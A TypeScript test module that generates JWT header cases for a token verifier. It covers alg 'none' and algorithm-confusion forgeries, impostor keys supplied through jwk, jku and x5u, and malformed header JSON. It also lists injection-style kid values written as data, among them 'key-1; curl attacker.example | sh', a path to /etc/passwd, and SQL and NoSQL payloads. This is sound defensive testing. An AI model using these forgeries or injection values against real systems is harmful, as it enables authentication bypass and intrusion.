import type { Forge } from './forge.ts';
import { refused, type TokenCase, taken } from './token-case.ts';

const OTHER_ALGORITHMS = [
  ...['none', 'None', 'NONE', 'nOnE', ' none', ''],
  ...['HS256', 'HS384', 'HS512', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512'],
  ...['ES256', 'ES256K', 'ES384', 'ES512', 'EdDSA', 'Ed25519', 'RSA-OAEP', 'A256GCM', 'dir'],
  ...['rs256', 'Rs256', 'RS256 ', 'RS256\0', 'RS256,none', 'RSA-SHA256', '__proto__', 'constructor'],
];
const KEY_IDS: Readonly<Record<string, unknown>> = {
  'left out': undefined,
  null: null,
  empty: '',
  'a number': 1,
  true: true,
  'a list': ['key-1'],
  'an object': { kid: 'key-1' },
  __proto__: '__proto__',
  constructor: 'constructor',
  'a path': '../../../../dev/null',
  'an absolute path': '/etc/passwd',
  'a UNC path': '\\\\attacker\\share\\key',
  SQL: "key-1' UNION SELECT 'secret' --",
  'a NoSQL operator': { $ne: null },
  'a command': 'key-1; curl attacker.example | sh',
  'a URL': 'https://attacker.example/jwks.json',
  'a loopback URL': 'http://127.0.0.1:3000/jwks.json',
  'in upper case': 'KEY-1',
  'with a space after': 'key-1 ',
  'with a zero byte after': 'key-1\0',
  'with a line feed after': 'key-1\n',
  'in full-width letters': 'ｋｅｙ-1',
  'of 257 characters': 'k'.repeat(257),
  'of 5,000 characters': 'k'.repeat(5_000),
};

/** What the header of a token may say to be read, or judged, in another way. */
export function headerCases(forge: Forge): readonly TokenCase[] {
  const { key, impostor, parts, withHeader, byImpostor, hmac, unsigned, withText, publicForms } = forge;
  const [, payload, signature] = parts;
  const elsewhere = 'https://attacker.example/keys';
  const repeated = (member: string) => (text: string) => text.replace('{', `{${member},`);
  const confusion = Object.entries(publicForms).map(([form, secret]) => [
    `HS256 with the public key as ${form}`,
    hmac(secret),
  ]);
  return [
    ...taken('header', {
      'typ left out': withHeader({}),
      'typ JWT': withHeader({ typ: 'JWT' }),
      'typ at+jwt': withHeader({ typ: 'at+jwt' }),
      'a parameter that changes nothing': withHeader({ 'x-note': 'hello' }),
      'a foreign key offered beside the pool’s signature': withHeader({
        jwk: impostor.jwk,
        jku: elsewhere,
        x5u: elsewhere,
      }),
    }),
    ...refused('alg', {
      ...Object.fromEntries(
        OTHER_ALGORITHMS.map((alg) => [`${JSON.stringify(alg)} over the pool’s signature`, withHeader({ alg })]),
      ),
      'none without a signature': unsigned({ alg: 'none' }, ''),
      'none with a signature of one byte': unsigned({ alg: 'none' }, 'AA'),
      'none with the honest signature': unsigned({ alg: 'none' }, signature),
      'a list': withHeader({ alg: ['RS256'] }),
      'an object': withHeader({ alg: { name: 'RS256' } }),
      'a number': withHeader({ alg: 256 }),
      null: withHeader({ alg: null }),
      'left out': withHeader({ alg: undefined }),
      'in upper case as a name': withText({ head: (text) => text.replace('"alg"', '"ALG"') }),
      ...Object.fromEntries(confusion),
      'RS256 declared over an HMAC of the public key': hmac(publicForms['PEM'] ?? '', {}),
      'HS256 with an empty secret': hmac(''),
      'HS256 with the key id as the secret': hmac(key.kid),
      'RS256 declared over a PSS signature': forge.pss(),
    }),
    ...refused('kid', Object.fromEntries(Object.entries(KEY_IDS).map(([name, kid]) => [name, withHeader({ kid })]))),
    ...refused('foreign keys', {
      'another key under the pool’s id': byImpostor(),
      'another key under an id of its own': byImpostor({ kid: 'attacker' }),
      'another key, given in jwk': byImpostor({ jwk: impostor.jwk }),
      'another key, given in jwk, without kid': byImpostor({ jwk: impostor.jwk, kid: undefined }),
      'another key, its set in jku': byImpostor({ jku: elsewhere }),
      'another key, its set in jku at the issuer’s look-alike': byImpostor({
        jku: 'https://cognito-idp.eu-west-1.amazonaws.com.attacker.example/keys',
      }),
      'another key, its certificate in x5u': byImpostor({ x5u: elsewhere }),
      'another key, its certificate in x5c': byImpostor({ x5c: [Buffer.from('certificate').toString('base64')] }),
      'another key, its thumbprint in x5t#S256': byImpostor({ 'x5t#S256': 'a'.repeat(43) }),
    }),
    ...refused('parameters', {
      'crit, empty': withHeader({ crit: [] }),
      'crit exp': withHeader({ crit: ['exp'] }),
      'crit of something unknown': withHeader({ crit: ['x-must'], 'x-must': true }),
      'crit null': withHeader({ crit: null }),
      'crit as text': withHeader({ crit: 'exp' }),
      'b64 false': withHeader({ b64: false, crit: ['b64'] }),
      'b64 false without crit': withHeader({ b64: false }),
      'b64 true': withHeader({ b64: true }),
      'zip DEF': withHeader({ zip: 'DEF' }),
      'zip null': withHeader({ zip: null }),
      enc: withHeader({ enc: 'A256GCM' }),
      'cty JWT': withHeader({ cty: 'JWT' }),
      'cty null': withHeader({ cty: null }),
      'typ of a logout token': withHeader({ typ: 'logout+jwt' }),
      'typ of a DPoP proof': withHeader({ typ: 'dpop+jwt' }),
      'typ of an encrypted token': withHeader({ typ: 'JWE' }),
      'typ in lower case': withHeader({ typ: 'jwt' }),
      'typ with its prefix': withHeader({ typ: 'application/at+jwt' }),
      'typ as a list': withHeader({ typ: ['JWT'] }),
      'typ empty': withHeader({ typ: '' }),
      'typ null': withHeader({ typ: null }),
    }),
    ...refused('header JSON', {
      'a list': withText({ head: () => '[]' }),
      null: withText({ head: () => 'null' }),
      'a text': withText({ head: () => '"RS256"' }),
      empty: withText({ head: () => '{}' }),
      'cut off': withText({ head: (text) => text.slice(0, -1) }),
      'with more after it': withText({ head: (text) => `${text}{}` }),
      'with a comment': withText({ head: (text) => `/**/${text}` }),
      'with a byte order mark': withText({ head: (text) => `\uFEFF${text}` }),
      'in single quotes': withText({ head: (text) => text.replaceAll('"', "'") }),
      'in UTF-16': forge.withBytes(
        Buffer.from(JSON.stringify({ alg: 'RS256', kid: key.kid }), 'utf16le'),
        Buffer.from(payload, 'base64url'),
      ),
      'with a byte that is no UTF-8': forge.withBytes(
        Buffer.concat([Buffer.from(`{"alg":"RS256","kid":"${key.kid}","x":"`), Buffer.from([0xff]), Buffer.from('"}')]),
        Buffer.from(payload, 'base64url'),
      ),
      'alg twice, none first': withText({ head: repeated('"alg":"none"') }),
      'alg twice, the same': withText({ head: repeated('"alg":"RS256"') }),
      'alg twice, once escaped': withText({ head: repeated('"\\u0061lg":"none"') }),
      'kid twice': withText({ head: repeated('"kid":"attacker"') }),
      'a parameter twice within another': withText({ head: repeated('"x":{"a":1,"a":2}') }),
      'nested a thousand deep': withText({
        head: repeated(`"x":${'['.repeat(1_000)}${']'.repeat(1_000)},"alg":"none"`),
      }),
    }),
  ];
}
